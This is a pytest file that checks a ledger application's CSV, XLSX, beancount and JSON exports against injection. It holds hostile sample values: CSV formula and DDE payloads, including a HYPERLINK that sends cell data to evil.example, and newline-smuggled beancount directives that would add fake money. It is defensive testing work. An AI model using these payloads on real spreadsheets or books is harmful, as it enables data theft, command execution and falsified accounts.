"""Exports that cannot be turned against their readers.

Hostile text (spreadsheet formulas, newlines carrying beancount directives, quotes, backslashes,
control characters) goes in the way an attacker would put it: summaries and notes through the
ordinary entry service, names by direct SQL (the services now refuse them). Then every export is
read back the way its reader would read it: the CSV and XLSX files by a spreadsheet (no cell may
be a formula), the beancount file by `bean-check` and `bean-query` (no money that is not in the
book), the JSON file by a parser (every string intact).
"""
from __future__ import annotations

import csv
import io
import json
import re
import subprocess
from decimal import Decimal

import openpyxl
import pytest
from sqlalchemy import select, text

from ledger.db.engine import make_engine
from ledger.db.schema import Account, Book, Fund
from ledger.domain.cells import safe_cell
from ledger.domain.errors import InvalidInput
from ledger.domain.text import single_line
from ledger.services import books as book_service, tokens, users

from ..conftest import D, back_office
from .test_cli import BIN, _bean_balances, _runner
from .test_office import Browser

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CMD = "+1+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
# A summary that tries to end its string and add an account holding money that is not in the book.
SMUGGLED = ('C:\\共治\\"账本"\\\n2026-12-30 open Assets:Stash CNY\n2026-12-31 * "stash"\n'
            "  Assets:Stash  1000000.00 CNY\n  Equity:C3101  -1000000.00 CNY\n")
NOTE_SMUGGLED = '备注"引号"\\反斜杠\n2026-12-30 open Assets:Note CNY'
BELL = "响铃\x07"

# Names as an attacker with SQL would write them (the services refuse all of these).
FUND_NAME_EN = ("Trust property\n2026-12-30 open Assets:Stash CNY\n2026-12-31 * \"stash\"\n"
                "  Assets:Stash  1000000.00 CNY\n  Equity:C3101-Unrestricted-Net-Assets  -1000000.00 CNY")
NAMES = {
    ("books", "code", "T1"): ("锦城\n2026-12-30 open Assets:Book CNY", '"quoted" \\ book =1+1'),
    ("funds", "code", "GEN"): ('+信托"财产"\\', FUND_NAME_EN),
    ("funds", "code", "REPAIR"): ("@维修储备金", "-Reserve\r\n2026-12-30 open Assets:Reserve CNY"),
    ("accounts", "code", "4101"): ('=HYPERLINK("http://evil.example/","物业费收入")', "Fees\n2026-12-30 open Assets:Stash CNY"),
    ("accounts", "code", "1002"): ("\t=1+1", "@Bank"),
    ("accounts", "code", "5101"): ("\r=cmd|' /C calc'!A0", '-Cleaning "quoted" \\'),
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def rename_by_sql(url: str, book_code: str = "T1", names=NAMES) -> None:
    """What someone with SQL access would do: guards allow renames, so nothing stops it."""
    engine = make_engine(url)
    with engine.begin() as conn:
        book_id = conn.execute(text("SELECT id FROM books WHERE code = :c"), {"c": book_code}).scalar_one()
        for (table, key, value), (zh, en) in names.items():
            where = "code = :v" if table == "books" else "code = :v AND book_id = :b"
            done = conn.execute(text(f"UPDATE {table} SET name_zh = :zh, name_en = :en WHERE {where}"),
                                {"zh": zh, "en": en, "v": value, "b": book_id})
            assert done.rowcount == 1
    engine.dispose()


def assert_inert_csv(rows: list[list[str]]) -> int:
    """No cell a spreadsheet would run: a cell may start with = + - @ tab CR only if it is a number."""
    checked = 0
    for row in rows:
        for cell in row:
            checked += 1
            if cell.startswith(FORMULA_START) or cell.lstrip().startswith(FORMULA_START):
                assert NUMBER.fullmatch(cell), f"live cell {cell!r} in {row!r}"
    return checked


def assert_inert_xlsx(data: bytes) -> list[tuple]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    rows = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in {cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    assert NUMBER.fullmatch(cell.value), f"live cell {cell.coordinate}: {cell.value!r}"
            rows.append(tuple(c.value for c in row))
    return rows


def _csv(data: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data)))


def _dicts(rows: list[list[str]]) -> list[dict]:
    """Rows keyed by column key, whatever language the headers are in."""
    from ledger.services.tables import HEADERS

    key = {name: k for k, names in HEADERS.items() for name in names}
    return [dict(zip([key.get(h, h) for h in rows[0]], r)) for r in rows[1:]]


def _as_csv_text(row: tuple) -> list[str]:
    """An XLSX row as the CSV writes it: numbers with two decimals, dates as ISO, nothing as ""."""
    out = []
    for v in row:
        if v is None:
            out.append("")
        elif isinstance(v, (int, float)) and not isinstance(v, bool):
            out.append(f"{Decimal(str(v)):.2f}")
        elif hasattr(v, "date") and callable(v.date):
            out.append(v.date().isoformat())
        else:
            out.append(str(v))
    return out


@pytest.fixture
def hostile(ledger, db_url):
    """The test book with hostile summaries, notes and names, and a back-dated entry approved last."""
    ledger.post(D(2026, 3, 2), "收维修资金", ("1002", "REPAIR", "5000.00"), ("3101", "REPAIR", "-5000.00"))
    ledger.post(D(2026, 3, 5), HYPERLINK, ("1002", "GEN", "1000.00"), ("4101", "GEN", "-1000.00"))
    with ledger.tx() as s:  # notes ride on lines; Ledger.post has none, so build the entry here
        from ledger.domain.model import EntryInput, Line
        from ledger.services import entries

        book = ledger.book(s)
        data = EntryInput(date=D(2026, 3, 8), summary=SMUGGLED, lines=(
            Line("5101", "GEN", 1250, CMD), Line("5101", "REPAIR", 300, AT),
            Line("1002", "GEN", -1250, MINUS), Line("1002", "REPAIR", -300, NOTE_SMUGGLED + BELL),
        ))
        entry = entries.create_entry(s, ledger.user(s, "maker"), book, data, submit=True)
        entries.approve_entry(s, ledger.user(s, "approver1"), book, entry)
    # Approved after the others, dated before them all: the chain's first entry is not the earliest.
    ledger.post(D(2025, 6, 1), "期初余额 opening", ("1002", "GEN", "20000.00"), ("3101", "GEN", "-20000.00"))
    rename_by_sql(db_url)
    return ledger


@pytest.fixture
def cli(db_url, tmp_path, monkeypatch):
    return _runner(db_url, tmp_path, monkeypatch)


@pytest.fixture
def demo(demo_db_url, tmp_path, monkeypatch):
    return _runner(demo_db_url, tmp_path, monkeypatch)


@pytest.fixture
def app(db_url, hostile, tmp_path):
    with back_office(db_url, tmp_path) as app:
        yield app


def _beancount(path):
    """What beancount itself makes of the file: its directives and its errors."""
    from beancount import loader

    return loader.load_file(str(path))


def _check_beancount(run, path, book_code: str) -> dict[str, int]:
    """bean-check accepts the file and bean-query's balances equal `ledger trial-balance` to the fen."""
    check = subprocess.run([BIN / "bean-check", str(path)], capture_output=True, text=True)
    assert check.returncode == 0, check.stdout + check.stderr
    query = subprocess.run(
        [BIN / "bean-query", "-f", "csv", str(path), "SELECT account, sum(number) AS total GROUP BY account"],
        check=True, capture_output=True, text=True).stdout
    accounts = [r["account"].strip() for r in csv.DictReader(io.StringIO(query))]
    assert all(re.fullmatch(r"(Assets|Liabilities|Equity|Income|Expenses):C[0-9A-Za-z-]+", a) for a in accounts), accounts
    _, tb = run("trial-balance", "--book", book_code, "--format", "json")
    ours = {r["code"]: int(Decimal(r["debit"]) * 100) - int(Decimal(r["credit"]) * 100) for r in json.loads(tb)}
    theirs = _bean_balances(path)
    assert {c: v for c, v in ours.items() if v} == {c: v for c, v in theirs.items() if v}
    return ours


# -- the beancount file ------------------------------------------------------------------------


def test_beancount_export_carries_no_smuggled_directive_and_agrees_to_the_fen(hostile, cli, tmp_path):
    path = tmp_path / "t1.beancount"
    _, out = cli("export", "--book", "T1", "--format", "beancount", "--out", path)
    assert "wrote 4 entries" in out
    ours = _check_beancount(cli, path, "T1")
    assert ours["1002"] == 2000000 + 100000 - 1550 + 500000 and ours["4101"] == -100000 and ours["5101"] == 1550
    assert ours["3101"] == -2500000

    entries, errors, options = _beancount(path)
    assert errors == []
    opens = [e for e in entries if type(e).__name__ == "Open"]
    txns = [e for e in entries if type(e).__name__ == "Transaction"]
    with hostile.tx() as s:
        book = s.scalar(select(Book).where(Book.code == "T1"))
        expected = {a.code for a in s.scalars(select(Account).where(Account.book_id == book.id))}
    # Every account of the book is opened, on the book's first day, and nothing else is.
    assert {re.match(r"\w+:C(\w+)", o.account).group(1) for o in opens} == expected and len(opens) == len(expected)
    assert {o.date for o in opens} == {D(2025, 1, 1)}
    assert sorted(t.date for t in txns) == [D(2025, 6, 1), D(2026, 3, 2), D(2026, 3, 5), D(2026, 3, 8)]
    by_date = {t.date: t for t in txns}
    # Strings survive with their quotes and backslashes, flattened to one line.
    assert by_date[D(2026, 3, 5)].narration == HYPERLINK
    assert by_date[D(2026, 3, 8)].narration == single_line(SMUGGLED.strip())
    notes = sorted(p.meta.get("note", "") for p in by_date[D(2026, 3, 8)].postings)
    assert notes == sorted([CMD, AT, MINUS, single_line(NOTE_SMUGGLED + BELL)])
    assert options["title"] == single_line(NAMES[("books", "code", "T1")][0]) + " / " + NAMES[("books", "code", "T1")][1]
    # The comment lines hold the hostile names on one line each; no line starts a directive they brought.
    body = path.read_text(encoding="utf-8")
    assert "; fund GEN: " + single_line('+信托"财产"\\') + " / " + single_line(FUND_NAME_EN) + "\n" in body
    assert not re.search(r'^\d{4}-\d\d-\d\d (open Assets:(Stash|Note|Reserve|Book)\b|\* "stash")', body, re.M)
    assert "Stash" not in "".join(o.account.split(":")[1] for o in opens if not o.account.startswith("Income:C4101"))


def test_back_dated_entry_opens_accounts_at_the_books_first_day(ledger, cli, tmp_path):
    ledger.post(D(2026, 3, 5), "收3月物业费", ("1002", "GEN", "1000.00"), ("4101", "GEN", "-1000.00"))
    ledger.post(D(2025, 1, 1), "期初 opening", ("1002", "GEN", "20000.00"), ("3101", "GEN", "-20000.00"))
    path = tmp_path / "t1.beancount"
    cli("export", "--book", "T1", "--format", "beancount", "--out", path)
    ours = _check_beancount(cli, path, "T1")
    assert ours == {"1002": 2100000, "3101": -2000000, "4101": -100000}
    assert re.findall(r"^(\S+) open Assets:C1002", path.read_text(encoding="utf-8"), re.M) == ["2025-01-01"]


@pytest.mark.slow
def test_demo_with_hostile_names_still_checks_and_agrees(demo, demo_db_url, tmp_path):
    engine = make_engine(demo_db_url)
    with engine.connect() as conn:
        book_id = conn.execute(text("SELECT id FROM books WHERE code = 'JCHY'")).scalar_one()
        accounts = conn.execute(text("SELECT code FROM accounts WHERE book_id = :b"), {"b": book_id}).scalars().all()
        funds = conn.execute(text("SELECT code FROM funds WHERE book_id = :b"), {"b": book_id}).scalars().all()
    engine.dispose()
    names = {("accounts", "code", c): (f"={c}+1\n2026-12-30 open Assets:X{c} CNY", f'"{c}"\\\n2026-12-31 * "x"')
             for c in accounts}
    names.update({("funds", "code", c): (f"@{c}\r\n", f"{c}\n2026-12-30 open Assets:Fund{c} CNY") for c in funds})
    rename_by_sql(demo_db_url, "JCHY", names)
    path = tmp_path / "jchy.beancount"
    _, out = demo("export", "--book", "JCHY", "--format", "beancount", "--out", path)
    count = int(re.search(r"wrote (\d+) entries", out).group(1))
    ours = _check_beancount(demo, path, "JCHY")
    assert len(ours) >= 4
    entries, errors, _ = _beancount(path)
    assert errors == []
    assert sum(type(e).__name__ == "Transaction" for e in entries) == count
    assert sum(type(e).__name__ == "Open" for e in entries) == len(accounts)
    csv_path = tmp_path / "jchy.csv"
    demo("export", "--book", "JCHY", "--format", "csv", "--out", csv_path)
    rows = _csv(csv_path.read_text(encoding="utf-8"))
    assert assert_inert_csv(rows) > 1000
    assert all(r["account_name"].startswith("'=") for r in _dicts(rows))


# -- the CLI's JSON and CSV ---------------------------------------------------------------------


def test_json_export_carries_the_hostile_strings_intact(hostile, cli, tmp_path):
    path = tmp_path / "t1.json"
    cli("export", "--book", "T1", "--format", "json", "--out", path)
    doc = json.loads(path.read_text(encoding="utf-8"))
    assert (doc["book"]["name_zh"], doc["book"]["name_en"]) == NAMES[("books", "code", "T1")]
    funds = {f["code"]: (f["name_zh"], f["name_en"]) for f in doc["funds"]}
    accounts = {a["code"]: (a["name_zh"], a["name_en"]) for a in doc["accounts"]}
    for (table, _, code), names in NAMES.items():
        if table != "books":
            assert (funds if table == "funds" else accounts)[code] == names
    by_summary = {e["summary"]: e for e in doc["entries"]}
    assert set(by_summary) == {HYPERLINK, SMUGGLED.strip(), "收维修资金", "期初余额 opening"}
    lines = by_summary[SMUGGLED.strip()]["lines"]
    assert [(l["account"], l["fund"], l["fen"], l["note"]) for l in lines] == [
        ("5101", "GEN", 1250, CMD), ("5101", "REPAIR", 300, AT), ("1002", "GEN", -1250, MINUS),
        ("1002", "REPAIR", -300, NOTE_SMUGGLED + BELL)]
    assert [l["amount"] for l in lines] == ["12.50", "3.00", "-12.50", "-3.00"]


def test_cli_csv_files_hold_no_live_formula(hostile, cli, tmp_path):
    path = tmp_path / "t1.csv"
    cli("export", "--book", "T1", "--format", "csv", "--out", path)
    rows = _csv(path.read_text(encoding="utf-8"))
    assert_inert_csv(rows)
    lines = _dicts(rows)
    assert len(lines) == 10
    first = [l for l in lines if l["date"] == "2026-03-05"]
    assert [(l["summary"], l["account"], l["account_name"], l["debit"], l["credit"]) for l in first] == [
        ("'" + HYPERLINK, "1002", "'\t=1+1", "1000.00", ""),
        ("'" + HYPERLINK, "4101", "'" + NAMES[("accounts", "code", "4101")][0], "", "1000.00")]
    smuggled = [l for l in lines if l["date"] == "2026-03-08"]
    assert [l["note"] for l in smuggled] == ["'" + CMD, "'" + AT, "'" + MINUS, NOTE_SMUGGLED + BELL]
    assert {l["summary"] for l in smuggled} == {SMUGGLED.strip()}  # CSV quoting keeps newlines inside a cell
    assert sum(Decimal(l["debit"] or 0) for l in lines) == sum(Decimal(l["credit"] or 0) for l in lines) == Decimal("26015.50")

    _, as_csv = cli("trial-balance", "--book", "T1", "--format", "csv")
    _, as_json = cli("trial-balance", "--book", "T1", "--format", "json")
    rows = _csv(as_csv)
    assert_inert_csv(rows)
    expected = [{k: safe_cell(v) for k, v in r.items()} for r in json.loads(as_json)]
    assert _dicts(rows) == expected
    by_code = {r["code"]: r for r in _dicts(rows)}
    assert by_code["4101"]["name"] == "'" + NAMES[("accounts", "code", "4101")][0]
    assert by_code["4101"]["balance"] == "-1000.00"  # a negative amount is a number, left as it is
    assert by_code["5101"]["name"] == "'\r=cmd|' /C calc'!A0" and by_code["5101"]["name_en"] == "'" + NAMES[("accounts", "code", "5101")][1]


# -- the back office's CSV and XLSX -------------------------------------------------------------

WEB_EXPORTS = ["/books/T1/journal", "/books/T1/accounts/1002", "/books/T1/accounts/4101", "/books/T1/trial-balance",
               "/books/T1/funds"]


def test_web_exports_hold_no_live_formula_and_the_same_figures(app):
    reader = Browser(app, "reader")
    tables = {}
    for url in WEB_EXPORTS:
        response = reader.get(url + ".csv")
        assert response.status_code == 200, url
        as_csv = _csv(response.data.decode("utf-8-sig"))
        assert_inert_csv(as_csv)
        response = reader.get(url + ".xlsx")
        assert response.status_code == 200, url
        as_xlsx = assert_inert_xlsx(response.data)
        # The same cells in both formats (XLSX cannot hold BEL, so it carries U+FFFD instead, and
        # XML reads a carriage return as a line feed).
        # Row 1 is the title and the last the totals, when the table has debit and credit columns.
        body = as_xlsx[1:-1] if "借方" in as_csv[0] else as_xlsx[1:]
        assert [_as_csv_text(r)[:len(as_csv[0])] for r in body] == [
            [c.replace("\x07", "\ufffd").replace("\r\n", "\n").replace("\r", "\n") for c in r] for r in as_csv], url
        tables[url] = _dicts(as_csv)

    journal = tables["/books/T1/journal"]
    assert [(r["date"], r["summary"][:12], r["account_name"], r["debit"], r["credit"], r["note"]) for r in journal
            if r["date"] in ("2026-03-05", "2026-03-08")] == [
        ("2026-03-08", SMUGGLED.strip()[:12], "'\r=cmd|' /C calc'!A0", "12.50", "", "'" + CMD),
        ("2026-03-08", SMUGGLED.strip()[:12], "'\r=cmd|' /C calc'!A0", "3.00", "", "'" + AT),
        ("2026-03-08", SMUGGLED.strip()[:12], "'\t=1+1", "", "12.50", "'" + MINUS),
        ("2026-03-08", SMUGGLED.strip()[:12], "'\t=1+1", "", "3.00", NOTE_SMUGGLED + BELL),
        ("2026-03-05", "'" + HYPERLINK[:11], "'\t=1+1", "1000.00", "", ""),
        ("2026-03-05", "'" + HYPERLINK[:11], "'" + NAMES[("accounts", "code", "4101")][0], "", "1000.00", ""),
    ]
    assert {r["summary"] for r in journal if r["date"] == "2026-03-05"} == {"'" + HYPERLINK}

    bank = tables["/books/T1/accounts/1002"]
    assert [(r["date"], r["debit"], r["credit"], r["balance"]) for r in bank] == [
        ("", "", "", "0.00"), ("2025-06-01", "20000.00", "", "20000.00"), ("2026-03-02", "5000.00", "", "25000.00"),
        ("2026-03-05", "1000.00", "", "26000.00"), ("2026-03-08", "", "12.50", "25987.50"),
        ("2026-03-08", "", "3.00", "25984.50")]
    income = tables["/books/T1/accounts/4101"]
    assert [(r["summary"], r["credit"], r["balance"]) for r in income][1:] == [("'" + HYPERLINK, "1000.00", "-1000.00")]

    tb = {r["code"]: r for r in tables["/books/T1/trial-balance"]}
    assert (tb["4101"]["name_zh"], tb["4101"]["credit"]) == ("'" + NAMES[("accounts", "code", "4101")][0], "1000.00")
    assert (tb["1002"]["name_zh"], tb["1002"]["name_en"], tb["1002"]["debit"]) == ("'\t=1+1", "'@Bank", "25984.50")
    assert tb["5101"]["name_en"] == "'" + NAMES[("accounts", "code", "5101")][1]

    funds = {r["code"]: r for r in tables["/books/T1/funds"]}
    assert funds["GEN"]["name_zh"] == "'" + NAMES[("funds", "code", "GEN")][0]
    assert funds["REPAIR"]["name_zh"] == "'@维修储备金"
    assert (funds["REPAIR"]["cash"], funds["REPAIR"]["expense"]) == ("4997.00", "3.00")


# -- names are single lines, whoever asks -------------------------------------------------------

CONTROLS = ["\n", "\r", "\t", "\x00", "\x1b", "\x7f", "\x85", "\u2028", "\u202e"]


@pytest.mark.parametrize("ch", CONTROLS, ids=[f"U+{ord(c):04X}" for c in CONTROLS])
def test_services_refuse_control_characters_in_names(ledger, ch):
    with ledger.tx() as s:
        system, book = users.system_user(s), ledger.book(s)
        attempts = [
            ("name_en", lambda: book_service.add_account(s, system, book, "1099", "零钱", f"Petty{ch}cash", "asset")),
            ("name_zh", lambda: book_service.add_fund(s, system, book, "F1", f"基金{ch}2026-01-01 open Assets:X CNY", "Fund", False)),
            ("name_zh", lambda: book_service.rename_account(s, system, book, "1002", f"银行{ch}存款", "Bank")),
            ("name_en", lambda: book_service.create_book(s, system, "T2", "新账簿", f"New{ch}book", "trust", first_month=(2025, 1))),
        ]
        for field, attempt in attempts:
            with pytest.raises(InvalidInput) as refused:
                attempt()
            assert refused.value.field == field
            assert "控制字符" in refused.value.message_zh and f"U+{ord(ch):04X}" in refused.value.message_zh
            assert f"{field} must be a single line" in refused.value.message_en and f"U+{ord(ch):04X}" in refused.value.message_en
    with ledger.tx() as s:
        book = ledger.book(s)
        assert s.scalar(select(Account.name_zh).where(Account.book_id == book.id, Account.code == "1002")) == "银行存款—共管账户"
        assert s.scalar(select(Account).where(Account.book_id == book.id, Account.code == "1099")) is None
        assert s.scalar(select(Fund).where(Fund.book_id == book.id, Fund.code == "F1")) is None
        assert s.scalar(select(Book).where(Book.code == "T2")) is None
        # A name that merely has spaces around it, or Chinese punctuation, is fine.
        system = users.system_user(s)
        assert book_service.add_fund(s, system, book, "F2", "  微项目：外墙“翻新”  ", "Micro-project \"facade\"", True).name_zh == "微项目：外墙“翻新”"


def test_cli_and_api_refuse_a_name_with_a_newline(ledger, cli, db_url, tmp_path):
    code, out = cli("funds", "add", "--book", "T1", "F1", "--name-zh", "基金", "--name-en",
                    "Fund\n2026-01-01 open Assets:Stash CNY", ok=False)
    assert code == 1 and "错误" in out and "name_en must be a single line" in out and "U+000A" in out
    code, out = cli("accounts", "rename", "--book", "T1", "1002", "--name-zh", "银行\r存款", ok=False)
    assert code == 1 and "name_zh must be a single line" in out
    _, listed = cli("accounts", "list", "--book", "T1", "--format", "json")
    assert {a["code"]: a["name_zh"] for a in json.loads(listed)}["1002"] == "银行存款—共管账户"

    with ledger.tx() as s:
        _, token = tokens.create_token(s, users.system_user(s), users.get_user(s, "approver1"), "test")
    with back_office(db_url, tmp_path) as app:
        client = app.test_client()
        headers = {"Authorization": f"Bearer {token}"}
        response = client.post("/api/v1/books/T1/accounts", headers=headers, json={
            "code": "1099", "name_zh": "零钱", "name_en": "Petty\n2026-01-01 open Assets:Stash CNY", "type": "asset"})
        assert response.status_code == 400, response.text
        body = response.get_json()
        assert body["code"] == "invalid_input" and body["field"] == "name_en"
        assert "控制字符" in body["message"]["zh_CN"] and "single line" in body["message"]["en"]
        codes = [a["code"] for a in client.get("/api/v1/books/T1/accounts", headers=headers).get_json()]
        assert "1099" not in codes and "1002" in codes


def test_an_account_code_with_an_underscore_still_checks(ledger, cli, tmp_path):
    cli("accounts", "add", "--book", "T1", "1002_01", "--name-zh", "银行存款—备用户", "--name-en", "Bank - spare", "--type", "asset",
        "--cash")
    ledger.post(D(2026, 3, 5), "转入备用户", ("1002_01", "GEN", "300.00"), ("3101", "GEN", "-300.00"))
    path = tmp_path / "t1.beancount"
    cli("export", "--book", "T1", "--format", "beancount", "--out", path)
    check = subprocess.run([BIN / "bean-check", str(path)], capture_output=True, text=True)
    assert check.returncode == 0, check.stdout + check.stderr
    entries, errors, _ = _beancount(path)
    assert errors == []
    posted = {p.account: p.units.number for e in entries if type(e).__name__ == "Transaction" for p in e.postings}
    assert posted == {"Assets:C1002\uff3f01-Bank-Spare": Decimal("300.00"), "Equity:C3101-Unrestricted-Net-Assets": Decimal("-300.00")}
